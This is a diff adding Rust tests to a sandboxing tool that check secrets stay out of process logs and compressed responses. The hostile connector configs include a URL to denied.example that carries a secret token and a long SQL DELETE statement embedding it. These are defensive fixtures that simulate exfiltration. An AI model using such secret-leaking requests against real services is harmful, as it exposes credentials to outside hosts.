@@ -985,3 +985,107 @@ async fn a_secret_echoed_in_a_trailer_is_refused() {
     assert!(r.succeeded(), "{:?} {:#?}", r.error, r.events);
     assert_eq!(loot(&s)["body"], "hello");
 }
+
+/// Found by an outside review: a refusal was traced to the process log (stderr of `sluice run`,
+/// the `sluice serve` log) with the guest's text as it came, before anything scrubbed it. A
+/// connector holding a secret (its config, marked secret in its spec) put it in a refused URL
+/// or path, and the log carried it in clear. The trace is scrubbed and cut like the event.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_refusal_reaches_the_process_log_scrubbed() {
+    const TOKEN: &str = "cfg-secret-9b1f77e2a4c0";
+    let db = "[[source.grant.sql]]\nname = \"db\"\nsqlite = \"src.db\"";
+    for (attack, grant, names_it) in [
+        (
+            format!(r#"attack = "http", url = "http://denied.example/v1/{TOKEN}/items""#),
+            "",
+            true,
+        ),
+        (
+            format!(
+                r#"attack = "sql", statements = ["DELETE FROM t WHERE x = '{TOKEN}{}'"]"#,
+                "x".repeat(10_000)
+            ),
+            db,
+            false,
+        ),
+    ] {
+        let s = scratch();
+        sqlite_file(&s.data_dir().join("warehouse/src.db")).await;
+        s.write(
+            "c.toml",
+            &hostile_conn(&format!("{attack}, token = \"{TOKEN}\""), grant),
+        );
+        // The HTTP attempt fails the run; the SQL one is answered and the run goes on.
+        let (_, _, err) = sluice_tests::sluice_cli(&s, &["run", "c.toml"]);
+        assert!(
+            !err.contains(TOKEN),
+            "{attack}: the secret reached stderr:\n{err}"
+        );
+        let traced: Vec<&str> = err.lines().filter(|l| l.contains("refused:")).collect();
+        assert!(
+            !traced.is_empty() && (!names_it || traced.iter().any(|l| l.contains("[secret:"))),
+            "{}: the refusal is still traced, with the secret's name: {traced:?}",
+            &attack[..40]
+        );
+        assert!(
+            traced.iter().all(|l| l.len() < 8 * 1024),
+            "{attack}: not cut: {traced:?}"
+        );
+    }
+}
+
+/// Found by an outside review: only answers to requests carrying a placeholder were kept
+/// uncompressed and scanned. A server the secret goes to may store it and hand it back later,
+/// gzip-compressed, to a request without one; the connector would inflate it itself. A
+/// connector holding bound secrets now asks every answer in `identity` and a compressed one is
+/// refused; a connector holding none still gets compressed answers.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_compressed_answer_is_refused_to_a_connector_holding_bound_secrets() {
+    // SAFETY: a variable only this test reads.
+    unsafe { std::env::set_var("SLUICE_TEST_GZIP_TOKEN", "tok-gzip-71c0d9") };
+    let server = TestServer::start(|req: &Seen| {
+        let asked = req.header("accept-encoding").unwrap_or("").to_string();
+        if req.path() == "/gz" {
+            Reply::status(200, "\u{1f}\u{8b} pretend gzip").header("Content-Encoding", "gzip")
+        } else {
+            Reply::status(200, &format!("plain, asked {asked}"))
+        }
+    });
+    let port = server.port();
+    let allow = format!("[source.grant.network]\nallow = [\"http://127.0.0.1:{port}\"]\n");
+    let bound = format!(
+        "{allow}[[source.grant.secrets]]\nname = \"token\"\nenv = \"SLUICE_TEST_GZIP_TOKEN\"\n\
+         to = [\"http://127.0.0.1:{port}\"]\n"
+    );
+    // No placeholder in the request, the header asks for gzip: a bound secret is held all
+    // the same.
+    let get = |path: &str| {
+        format!(
+            r#"attack = "http", url = "http://127.0.0.1:{port}{path}", headers = {{ Accept-Encoding = "gzip" }}"#
+        )
+    };
+    let s = scratch();
+    let r = attack(&s, &get("/gz"), &bound).await;
+    assert!(!r.succeeded(), "must fail: {:#?}", r.events);
+    assert!(
+        r.events
+            .iter()
+            .any(|e| e.outcome == Outcome::Refused && e.detail.contains("`gzip`-encoded")),
+        "{:#?}",
+        r.events
+    );
+    let s = scratch();
+    let r = attack(&s, &get("/plain"), &bound).await;
+    assert!(r.succeeded(), "{:?} {:#?}", r.error, r.events);
+    assert!(
+        server
+            .seen()
+            .iter()
+            .all(|q| q.header("accept-encoding") == Some("identity")),
+        "the host asks for identity on behalf of a connector holding secrets"
+    );
+    // Without bound secrets, a compressed answer reaches the connector.
+    let s = scratch();
+    let r = attack(&s, &get("/gz"), &allow).await;
+    assert!(r.succeeded(), "{:?} {:#?}", r.error, r.events);
+}
